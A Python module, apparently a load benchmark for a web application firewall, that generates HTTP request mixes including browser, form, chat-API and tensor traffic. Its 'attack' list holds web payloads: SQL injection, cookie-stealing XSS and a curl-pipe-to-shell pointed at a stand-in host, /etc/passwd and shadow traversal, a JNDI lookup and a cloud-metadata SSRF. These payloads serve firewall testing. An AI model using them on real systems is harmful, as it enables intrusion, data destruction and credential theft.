"""Eight kinds of request, each a list of distinct ones, rendered to the bytes that go on the wire."""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from urllib.parse import quote_plus, urlencode

import msgspec

from waf.bench.material import Material

_BROWSER = (
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("Accept-Language", "en-GB,en;q=0.8,de;q=0.5"),
    ("Accept-Encoding", "gzip, deflate, br"),
    ("Referer", "https://model.example/shop?page=4"),
    ("Cookie", "sid=9d81c4a70be24f3e; lang=en; seen=1"),
    ("Sec-Fetch-Mode", "navigate"),
    ("Sec-Fetch-Site", "same-origin"),
    ("Upgrade-Insecure-Requests", "1"),
)
_SDK = (
    ("User-Agent", "OpenAI/Python 1.60.0"),
    ("Accept", "application/json"),
    ("Accept-Encoding", "gzip, deflate"),
    ("Authorization", "Bearer sk-bench-0000000000000000"),
    ("X-Stainless-Lang", "python"),
    ("X-Stainless-OS", "Linux"),
    ("X-Stainless-Runtime", "CPython"),
    ("Content-Type", "application/json"),
)
_CLIENT = (
    ("User-Agent", "scoring-job/4.1"),
    ("Accept", "application/json"),
    ("Content-Type", "application/json"),
)


@dataclass(frozen=True, slots=True)
class Mix:
    """`rate` is the open-loop rate in requests per second at scale 1; `attack`: every request ought to be refused."""

    name: str
    doc: str
    count: int
    rate: float
    make: Callable[[random.Random, Material], bytes | Sequence[bytes]]
    """One request, or several that are sent in this order."""
    attack: bool = False

    def requests(self, material: Material, seed: int = 1) -> list[bytes]:
        """`count` distinct requests, the same ones for the same seed and material."""
        rng = random.Random(f"{self.name}/{seed}")
        seen: dict[bytes, None] = {}
        while len(seen) < self.count:
            made = self.make(rng, material)
            seen.update(dict.fromkeys((made,) if isinstance(made, bytes) else made))
        return list(seen)[: self.count]


def render(method: str, target: str, headers: Sequence[tuple[str, str]], body: bytes = b"") -> bytes:
    """One HTTP/1.1 request as bytes."""
    lines = [f"{method} {target} HTTP/1.1", "Host: model.example", *(f"{k}: {v}" for k, v in headers)]
    if body or method != "GET":
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def _get(rng: random.Random, material: Material) -> bytes:
    prose = material.prose(rng, 120)
    begin = rng.randrange(80)
    words = quote_plus(prose[begin : begin + 40])
    kind = rng.choice(("items", "models", "runs", "search"))
    return render("GET", f"/api/v1/{kind}?id={rng.randint(1, 10**6)}&q={words}&page={rng.randint(1, 40)}", _BROWSER)


def _form(rng: random.Random, material: Material) -> bytes:
    fields = {
        "given_name": rng.choice(("Ada", "Ravi", "Hana", "Imre")),
        "email": f"user{rng.randint(1, 10**6)}@example.org",
        "postcode": str(rng.randint(10_000, 99_999)),
        "quantity": str(rng.randint(1, 9)),
        "newsletter": "yes",
        "comment": material.prose(rng, 150),
    }
    headers = (*_BROWSER, ("Origin", "https://model.example"), ("Content-Type", "application/x-www-form-urlencoded"))
    return render("POST", "/api/v1/orders", headers, urlencode(fields).encode())


def _chat(rng: random.Random, turns: Sequence[tuple[str, str]]) -> bytes:
    body = {
        "model": "small-1",
        "messages": [{"role": role, "content": text} for role, text in turns],
        "temperature": round(rng.random(), 2),
        "max_tokens": rng.randint(64, 1024),
        "stream": False,
    }
    return render("POST", "/v1/chat/completions", _SDK, msgspec.json.encode(body))


def _chat_1k5(rng: random.Random, material: Material) -> bytes:
    return _chat(
        rng,
        (
            ("system", "You answer briefly and say when you are not sure."),
            ("user", material.prose(rng, 320)),
            ("assistant", material.prose(rng, 430)),
            ("user", material.prose(rng, 460)),
        ),
    )


def _chat_16k(rng: random.Random, material: Material) -> bytes:
    system = ("system", "You answer briefly and say when you are not sure.")
    return _chat(rng, (system, ("user", "Sum these notes up in five points.\n\n" + material.prose(rng, 15_800))))


TURNS = 10


def _conversation(rng: random.Random, material: Material) -> list[bytes]:
    """A client sends everything again with every turn: what was said before, and a new question behind it."""
    turns = [("system", "You help with orders, invoices and deliveries.\n\n" + material.prose(rng, 1_200))]
    made = []
    for _ in range(TURNS):
        turns.append(("user", material.prose(rng, 300)))
        made.append(_chat(rng, turns))
        turns.append(("assistant", material.prose(rng, 600)))
    return made


def _code_3k(rng: random.Random, material: Material) -> bytes:
    system = ("system", "You review code and explain what could go wrong.")
    return _chat(rng, (system, ("user", "What is wrong here?\n\n" + material.code(rng, 2_700))))


def _tensor_30k(rng: random.Random, _material: Material) -> bytes:
    row = [round(rng.random(), 6) for _ in range(3072)]
    return render("POST", "/v1/models/digits:predict", _CLIENT, msgspec.json.encode({"instances": [row]}))


_ATTACKS = (
    ("id", "{n}' OR '{n}'='{n}' -- -"),
    ("id", "{n} UNION SELECT login, secret FROM staff--"),
    ("id", "{n}'; DROP TABLE parcels; --"),
    ("id", "{n}' AND SLEEP({n})#"),
    ("q", "<script>document.location='//e.example/{n}?'+document.cookie</script>"),
    ("q", "<img src=x{n} onerror=alert({n})>"),
    ("q", '"><svg/onload=alert({n})>'),
    ("host", "10.0.0.{n}; cat /etc/passwd"),
    ("host", "$(curl http://e.example/{n}.sh | sh)"),
    ("file", "../../../../../../etc/passwd%00{n}"),
    ("file", "....//....//....//etc/shadow?{n}"),
    ("x", "${{jndi:ldap://e.example/{n}}}"),
    ("cmd", "| /bin/bash -c 'id; uname -a; sleep {n}'"),
    ("url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/?{n}"),
)


def _attack(rng: random.Random, _material: Material) -> bytes:
    name, payload = rng.choice(_ATTACKS)
    return render("GET", f"/api/v1/items?{name}={quote_plus(payload.format(n=rng.randint(2, 10**6)))}", _BROWSER)


MANY = 20_000
"""Distinct requests of a mix with short values: the firewall remembers short texts, and must not remember these."""
MANY_TEXTS = 6_000
"""The same for longer texts, which it remembers when one comes again among four thousand others."""
MANY_LONG = 4_500
"""The same for texts that are long enough to fill a machine's memory."""

MIXES = {
    mix.name: mix
    for mix in (
        Mix("get", "a browser's GET with three arguments", MANY, 300, _get),
        Mix("form", "an order form of six fields", MANY, 300, _form),
        Mix("chat_1k5", "an OpenAI chat request of 1.5 KB, four turns", MANY_TEXTS, 300, _chat_1k5),
        Mix("chat_16k", "an OpenAI chat request of 16 KB, one long turn", MANY_LONG, 150, _chat_16k),
        Mix("conversation", "an OpenAI chat that grows turn by turn, 2 to 11 KB", 4_000, 200, _conversation),
        Mix("code_3k", "an OpenAI chat request with 3 KB of code, SQL and shell", MANY_TEXTS, 250, _code_3k),
        Mix("tensor_30k", "a TF-Serving request with 3,072 numbers, 30 KB", 60, 100, _tensor_30k),
        Mix("attack", "plain web attacks in query arguments", MANY, 300, _attack, attack=True),
    )
}
